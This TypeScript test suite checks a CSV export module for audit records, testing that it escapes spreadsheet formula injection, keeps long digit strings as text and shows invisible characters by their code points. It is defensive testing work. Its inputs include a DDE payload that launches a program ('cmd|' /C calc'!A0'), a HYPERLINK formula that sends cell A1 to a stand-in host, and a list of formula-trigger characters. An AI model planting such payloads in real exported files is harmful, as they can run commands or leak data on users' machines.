import fc from "fast-check";
import t from "tap";
import { visible } from "../../src/domain/visible.ts";
import { type Column, csvHead, csvRow } from "../../src/audit/csv.ts";
import { DELIVERY_COLUMNS, EVENT_COLUMNS } from "../../src/audit/tables.ts";
import type { Delivery, LoggedEvent } from "../../src/domain/generated/answers.ts";
import { holds } from "../support/holds.ts";

const TWO: readonly Column<readonly [string, string]>[] = [
  { en: "one", zh: "一", of: ([one]) => one },
  { en: "two", zh: "二", of: ([, two]) => two },
];
const ANY: readonly Column<unknown>[] = [{ en: "value", zh: "值", of: (value) => value as string }];

/** Fields of one line as a spreadsheet reads it (RFC 4180). */
function fieldsOf(line: string): string[] {
  const fields: string[] = [];
  let at = 0;
  for (;;) {
    let field = "";
    if (line[at] === '"') {
      at++;
      for (;;) {
        const end = line.indexOf('"', at);
        if (end === -1) throw new Error("a quote is not closed");
        field += line.slice(at, end);
        at = end + 1;
        if (line[at] !== '"') break;
        field += '"';
        at++;
      }
    } else {
      const [plain = ""] = /^[^",\r\n]*/.exec(line.slice(at)) ?? [];
      field = plain;
      at += plain.length;
    }
    fields.push(field);
    if (line.slice(at) === "\r\n") return fields;
    if (line[at] !== ",") throw new Error("neither a comma nor the end of the line");
    at++;
  }
}

// Characters that OWASP's page on CSV injection names, and those that programs skip first: blanks and marks.
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
const PASSED_OVER = ["", " ", "\u00a0", "\u3000", "\ufeff", "\t ", "\0"];

/** Tells whether a spreadsheet may run a field. */
function runs(field: string): boolean {
  return STARTS.some((start) => field.trimStart().startsWith(start) || field.startsWith(start));
}

t.test("CSV: what a spreadsheet would run becomes a text", async (t) => {
  for (const blank of PASSED_OVER) {
    for (const start of STARTS) {
      for (const rest of ["", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "1,=2", "1\r\n=2"]) {
        const text = blank + start + rest;
        const shown = visible(text);
        const [field, next, ...more] = fieldsOf(csvRow(TWO, [text, "housing"], "en"));
        t.equal(field, runs(shown) ? `'${shown}` : shown, JSON.stringify(text));
        t.notOk(runs(field ?? ""), JSON.stringify(text));
        t.same([next, ...more], ["housing"], "and nothing of it gets into the next field");
      }
    }
  }
});

t.test("CSV: numbers and plain texts stay as they are", async (t) => {
  for (const value of [
    0,
    -1,
    7700,
    0.25,
    -12.5,
    1_790_000_000_123,
    true,
    "-3",
    "12345678901",
    "0.25",
    "housing",
    "a=b",
    "2026-11-23T09:00:00.000Z",
    "11320723MB0X12345A",
    " text",
    "",
  ]) {
    t.same(fieldsOf(csvRow(ANY, value, "en")), [String(value)]);
  }
  for (const nothing of [null, undefined]) t.equal(csvRow(ANY, nothing, "en"), "\r\n");
  // Texts that only begin like a number.
  for (const text of ["-1-1", "--1", "-1e9", "-"]) t.same(fieldsOf(csvRow(ANY, text, "en")), [`'${text}`]);
});

t.test("CSV: digits that a spreadsheet would change become a text", async (t) => {
  for (const text of [
    "113207230140123456",
    "320723198806140001",
    "123456789012",
    "007",
    "0012.50",
    "1E10",
    "1.5e+300",
    "9132E5",
    "-113207230140123456",
  ]) {
    t.same(fieldsOf(csvRow(ANY, text, "en")), [`'${text}`], text);
  }
});

t.test("CSV: invisible characters are shown by their code points", async (t) => {
  t.same(fieldsOf(csvRow(ANY, "民\u200b政\ufe0f\u3164局\r\n", "en")), [
    "民〔U+200B〕政〔U+FE0F〕〔U+3164〕局〔U+000D〕〔U+000A〕",
  ]);
});

t.test("CSV: a line keeps its columns for any content, and no field is a formula", async (t) => {
  const text = fc.string({
    unit: fc.oneof(
      fc.constantFrom(...STARTS, '"', ",", "'", " ", "1", "0", "e", "."),
      fc.string({ unit: "grapheme", maxLength: 1 }),
    ),
  });
  await holds(
    t,
    fc.property(text, text, (one, two) => {
      const fields = fieldsOf(csvRow(TWO, [one, two], "en"));
      if (fields.length !== 2) return false;
      return [one, two].every((asked, n) => {
        const field = fields[n] ?? "";
        const shown = visible(asked);
        return (field === shown || field === `'${shown}`) && (!runs(field) || /^-\d+(\.\d+)?$/.test(field));
      });
    }),
    { numRuns: 2_000 },
  );
});

t.test("CSV: headings are escaped too", async (t) => {
  const odd: readonly Column<unknown>[] = [{ en: 'a "b", c', zh: "甲，乙", of: () => "" }];
  t.equal(csvHead(odd, "en"), '"a ""b"", c"\r\n');
  t.equal(csvHead(odd, "zh"), "\ufeff甲，乙\r\n");
});

/** Fields of a line by heading. */
function row<Item>(columns: readonly Column<Item>[], item: Item, language: "en" | "zh"): Record<string, string> {
  const fields = fieldsOf(csvRow(columns, item, language));
  return Object.fromEntries(columns.map((column, n) => [column[language], fields[n] ?? ""]));
}

t.test("CSV of auditors: every time in one zone, words beside codes", async (t) => {
  const delivery = {
    type: "aid-subject-list",
    state: "rejected",
    way: "pull",
    outcome: "rejected",
    reason: "not-responsible",
    disclosed: [],
    sealedAt: "2026-10-31T16:00:00.000Z",
    deliveredAt: "2026-11-01T00:00:00.120+08:00",
    settledAt: "2026-10-31T23:59:59-05:00",
    due: { receipt: "2026-11-06T23:59:59+08:00" },
  } as unknown as Delivery;
  const zh = row(DELIVERY_COLUMNS, delivery, "zh");
  t.same(
    [zh["封装时间"], zh["送达时间"], zh["办结时间"], zh["签收期限"], zh["销毁时间"]],
    [
      "2026-11-01T00:00:00.000+08:00",
      "2026-11-01T00:00:00.120+08:00",
      "2026-11-01T12:59:59.000+08:00",
      "2026-11-06T23:59:59.000+08:00",
      "",
    ],
  );
  t.same(
    [zh["类型"], zh["类型名称"], zh["状态"], zh["状态名称"]],
    ["aid-subject-list", "救助对象信息移送清单", "rejected", "已拒收"],
  );
  t.same([zh["方式名称"], zh["回执名称"], zh["拒收原因名称"]], ["取回", "拒收", "不属于本单位职责"]);
  t.equal(row(DELIVERY_COLUMNS, delivery, "en")["state in words"], "rejected");
  const event = {
    log: { stage: "published", index: 7, leafHash: "" },
    entry: { type: "receipt", time: "2026-10-31T16:00:00.000Z", actor: "civil-affairs" },
  } as unknown as LoggedEvent;
  const entry = row(EVENT_COLUMNS, event, "zh");
  t.same([entry["阶段名称"], entry["类型名称"], entry["时间"]], ["已发布", "回执", "2026-11-01T00:00:00.000+08:00"]);
  // A new column of times is held too: none shows a zone of its own.
  for (const value of Object.values(zh)) t.notMatch(value, /\d\d:\d\d(?:\.\d+)?(?:Z|-\d\d:\d\d)$/);
});
